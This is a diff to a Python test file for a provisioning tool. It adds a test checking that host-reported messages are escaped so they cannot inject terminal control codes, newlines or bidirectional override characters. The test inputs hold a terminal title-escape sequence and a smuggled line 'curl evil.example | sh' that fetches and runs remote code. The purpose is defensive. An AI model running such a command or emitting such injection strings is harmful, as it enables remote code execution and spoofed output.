@@ -2,7 +2,7 @@ from __future__ import annotations
 
 from typing import Any
 
-from provision.model.plan import PlaybookStep, Reason
+from provision.model.plan import Finding, PlaybookStep, Reason
 
 
 def step(*hosts: str, **fields: Any) -> PlaybookStep:
@@ -46,3 +46,10 @@ def test_a_step_is_unchanged_while_no_host_failed() -> None:
     one = step("cp1", nodes=("cp1",), node_variables={"cluster_ready_nodes": ("cp1",)})
 
     assert one.without_failed_hosts(frozenset()) == one
+
+
+def test_what_a_host_says_stays_on_one_line_without_control_characters() -> None:
+    finding = Finding.error("cni", "h1", "Evil\x1b]0;pwned\x07 OS", "rm '00-x\nfix: curl evil.example | sh'")
+    assert finding.message == "Evil\\x1b]0;pwned\\x07 OS"
+    assert finding.fix == "rm '00-x\\x0afix: curl evil.example | sh'"
+    assert Reason("h1", "a\rb\u202ec").what == "a\\x0db\\u202ec"
